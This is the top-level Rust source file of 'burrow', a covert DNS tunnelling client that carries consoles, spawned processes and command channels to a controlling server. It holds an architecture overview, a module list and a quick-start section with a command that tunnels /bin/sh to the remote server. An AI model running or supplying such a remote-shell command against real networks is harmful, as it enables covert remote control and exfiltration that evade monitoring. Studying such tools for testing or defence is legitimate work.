//! burrow: a covert DNS tunnel transport client
//!
//! burrow tunnels a bidirectional byte stream through recursive DNS. It
//! opens one or more logical sessions to a controlling server; each
//! session carries an interactive console, a spawned process, a command
//! channel, or a liveness probe. Every payload crosses the network inside
//! DNS question names and answer records, so only a recursive resolver
//! and the authoritative server for the chosen domain need to be
//! reachable.
//!
//! ## Architecture
//!
//! ```text
//! ┌─────────┐   bytes   ┌─────────┐  packets  ┌────────────┐  queries  ┌──────────┐
//! │ Driver  │──────────▶│ Session │──────────▶│ Controller │──────────▶│ DnsTunnel│
//! │ (stdio, │◀──────────│ (seq/ack│◀──────────│ (routing,  │◀──────────│ (hex in  │
//! │  exec)  │           │  + enc) │           │  fairness) │           │  labels) │
//! └─────────┘           └─────────┘           └────────────┘           └──────────┘
//! ```
//!
//! The packet layer provides reliable, ordered delivery over unreliable
//! datagrams with 16-bit sequence/acknowledgement numbers and
//! retransmission. The optional encryption layer runs an in-band ECDH
//! handshake (P-256), derives Salsa20/SHA3 keys, and shows a six-word
//! short authentication string for man-in-the-middle detection.
//!
//! ## Quick start
//!
//! ```bash
//! # Interactive console session through a local resolver
//! burrow --host 127.0.0.1 --domain t.example.com
//!
//! # Tunnel a shell, authenticated with a preshared secret
//! burrow --domain t.example.com --exec /bin/sh --secret hunter2
//!
//! # Check the path end to end
//! burrow --domain t.example.com --ping
//! ```

pub mod buffer;
pub mod config;
pub mod controller;
pub mod crypto;
pub mod dns;
pub mod drivers;
pub mod encoding;
pub mod packet;
pub mod session;
pub mod tunnel;

// Re-export core types
pub use buffer::{BufferError, ByteBuffer};
pub use config::{Config, RecordKind, SessionKind};
pub use controller::Controller;
pub use crypto::{CryptoError, Encryptor, Role};
pub use dns::{DnsError, Message, RData, Rcode, Record, RecordType};
pub use drivers::{ConsoleDriver, ExecDriver, PingDriver, SessionDriver};
pub use packet::{Packet, PacketBody, PacketError, MAX_PACKET_SIZE};
pub use session::{Session, SessionParams, SessionState, RETRANSMIT_DELAY};
pub use tunnel::{decode_answers, encode_name, max_payload_len, DnsTunnel, TunnelError, TunnelSettings};
